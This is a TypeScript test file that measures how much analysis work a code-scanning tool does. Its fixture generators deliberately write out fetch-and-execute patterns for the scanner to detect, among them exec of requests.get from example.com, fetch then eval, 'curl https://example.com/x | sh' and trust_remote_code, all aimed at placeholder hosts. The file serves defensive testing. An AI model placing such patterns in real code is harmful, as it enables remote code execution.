/**
 * How much work an analysis is, counted and not timed: a change that makes it dearer is seen on any machine.
 *
 * The counts of some known texts stand in a snapshot. What grows by more than a tenth needs a reason, and then a new snapshot
 * (`UPDATE_SNAPSHOTS=1`); small changes of models and rules do not.
 */

import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { scan } from '../../server/cli/scan.ts';
import { strip } from '../../server/core/service/marks.ts';
import { examplesOf } from '../../server/core/service/pages.ts';
import { createService, type Service } from '../../server/core/service/service.ts';
import type { Work } from '../../server/core/service/work.ts';
import { LANGUAGES } from '../../server/core/syntax/language.ts';
import { createNodeHost } from '../../server/host/node.ts';
import { cell, notebook } from '../kit/notebooks.ts';

const FILE = path.join(import.meta.dirname, 'snapshots/work.json');
type Counts = Readonly<Record<string, number>>;
const known: Record<string, Counts> = fs.existsSync(FILE) ? JSON.parse(fs.readFileSync(FILE, 'utf8')) : {};

/** Fails when a count is a tenth above the known one, or so far below that the known one says nothing any more. */
function assertCounts(name: string, counts: Counts): void {
  const rounded = Object.fromEntries(
    Object.entries(counts).map(([key, value]) => [key, Math.round(value * 100) / 100]),
  );
  if (process.env.UPDATE_SNAPSHOTS === '1') {
    known[name] = rounded;
    fs.writeFileSync(FILE, `${JSON.stringify(known, undefined, 2)}\n`);
    return;
  }
  for (const [key, value] of Object.entries(rounded)) {
    const before = known[name]?.[key] ?? 0;
    assert(
      value <= before * 1.1 + 1 && value >= before * 0.6 - 1,
      `${name}: ${key} is ${value}, it was ${before}; run with UPDATE_SNAPSHOTS=1 if that is as it should be`,
    );
  }
}

async function freshService(): Promise<Service> {
  const service = await createService(createNodeHost({ environment: {} }));
  for (const language of [...LANGUAGES, 'file'] as const) await service.prepare(language);
  return service;
}

/** What of two counts lies between them. */
function between(before: Work, after: Work): Work {
  const entries = Object.entries(after).map(([key, value]) => [key, value - before[key as keyof Work]]);
  return Object.fromEntries(entries) as unknown as Work;
}

describe('work', () => {
  it('for an example of a rule', async () => {
    const service = await freshService();
    const examples = service.rules.flatMap(({ id }) => examplesOf(id)).map((it) => ({ ...it, text: strip(it.code) }));
    const before = service.work;
    for (const { language, text, file = 'example' } of examples) {
      service.check({ uri: `file:///${file}`, language, text });
    }
    const { analysed, questions, units } = between(before, service.work);
    const length = examples.reduce((sum, { text }) => sum + text.length, 0);
    // By the text, so that another example is no more work.
    assertCounts('examples', {
      analysed: analysed / examples.length,
      questions: (questions * 100) / length,
      units: units / length,
    });
  });

  it('for a letter that is typed into a long file', async () => {
    const service = await freshService();
    const text = program(400);
    const document = service.open({ uri: 'file:///a.py', language: 'python', text });
    document.check();
    const before = service.work;
    for (let edit = 1; edit <= 10; edit++) {
      document.update(`${text}x = ${'1'.repeat(edit)}\n`);
      document.check();
    }
    assertCounts('typing', { ...between(before, service.work) });
    document.dispose();
  });

  it('for a cell that is changed in a notebook of a hundred', async () => {
    const service = await freshService();
    const cells = Array.from({ length: 100 }, (_, index) => {
      return { uri: `cell:${index}`, language: 'python' as const, text: program(4, index) };
    });
    const open = service.openNotebook('file:///a.ipynb', cells);
    open.check();
    const before = service.work;
    for (let edit = 1; edit <= 10; edit++) {
      open.update(cells.map((it, index) => (index === 50 ? { ...it, text: `${it.text}x = ${edit}\n` } : it)));
      open.check();
    }
    assertCounts('typing in a cell', { ...between(before, service.work) });
  });

  for (const modules of [40, 160]) {
    it(`for a project of ${modules} modules and what stands beside them`, async () => {
      const folder = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'loadguard-work-')));
      try {
        for (const [name, text] of project(modules)) {
          fs.mkdirSync(path.dirname(path.join(folder, name)), { recursive: true });
          fs.writeFileSync(path.join(folder, name), text);
        }
        const service = await freshService();
        const wishes = {
          rules: {},
          sizeLimit: 2e6,
          timeLimit: 60_000,
          gate: true,
          jobs: 1,
          config: true,
          ignores: true,
        };
        const { findings, work, skipped } = await scan(service, [folder], wishes);
        assert.deepEqual(skipped, []);
        const { files, analysed } = work;
        assertCounts(`${modules} modules`, {
          ...service.work,
          files,
          analysedFiles: analysed,
          findings: findings.length,
        });
      } finally {
        fs.rmSync(folder, { recursive: true });
      }
    });
  }

  it('grows with the size of a project, four times here, and not with its square', () => {
    for (const [key, value] of Object.entries(known['160 modules']!)) {
      assert(value <= known['40 modules']![key]! * 6 + 8, key);
    }
  });
});

/** A Python program of so many functions, some of which matter. */
function program(functions: number, seed = 0): string {
  const lines = ['import requests', 'import torch', 'from transformers import AutoModel', ''];
  for (let index = seed; index < seed + functions; index++) {
    lines.push(
      `def step_${index}(items, scale=${index % 7}):`,
      '    total = 0',
      '    for item in items:',
      '        if item.weight > scale:',
      `            total += item.weight * ${index}`,
      index % 25 === 3 ? `    model = AutoModel.from_pretrained("acme/m${index}")` : `    name = f"step {total}"`,
      index % 25 === 7 ? `    exec(requests.get("https://example.com/${index}.py").text)` : '    text = str(name)',
      '    return total',
      '',
    );
  }
  return lines.join('\n');
}

/** The files of a project whose modules import each other, in two languages, with notebooks and files beside code. */
function* project(modules: number): Iterable<readonly [name: string, text: string]> {
  yield ['requirements.txt', 'torch==2.6.0\ntransformers>=4.50\ngit+https://github.com/acme/tools.git\n'];
  yield ['package.json', '{"name": "app", "dependencies": {"left-pad": "latest"}}\n'];
  yield ['app/__init__.py', ''];
  yield ['app/config.py', 'MODEL = "acme/tiny"\nTRUST = True\n'];
  yield [
    'app/loading.py',
    'from transformers import AutoModel\n\ndef load(name, **options):\n    return AutoModel.from_pretrained(name, **options)\n\ndef run(text):\n    exec(text)\n',
  ];
  for (let index = 0; index < modules; index++) {
    const next = (index + 1) % modules;
    if (index % 4 === 3) {
      const text =
        index % 8 === 3 ? 'const text = await (await fetch(address)).text();\n  eval(text);' : 'return address;';
      yield [
        `web/m${index}.ts`,
        `import { address } from './m${(index + 4) % modules}';\nexport async function go${index}() {\n  ${text}\n}\nexport { address };\n`,
      ];
    } else if (index % 10 === 9) {
      yield [
        `notebooks/n${index}.ipynb`,
        notebook([cell('!pip install acme\n'), cell(program(3, index)), cell('x = 1\n')]),
      ];
    } else {
      yield [
        `app/m${index}.py`,
        `from app.config import MODEL, TRUST\nfrom app.loading import load, run\nfrom app import m${next}\n\n${program(12, index)}\n` +
          (index % 6 === 0
            ? 'model = load(MODEL, trust_remote_code=TRUST)\nrun(requests.get("https://a.example").text)\n'
            : ''),
      ];
    }
    if (index % 20 === 0) yield [`deploy/d${index}.sh`, 'pip install acme\ncurl https://example.com/x | sh\n'];
  }
}
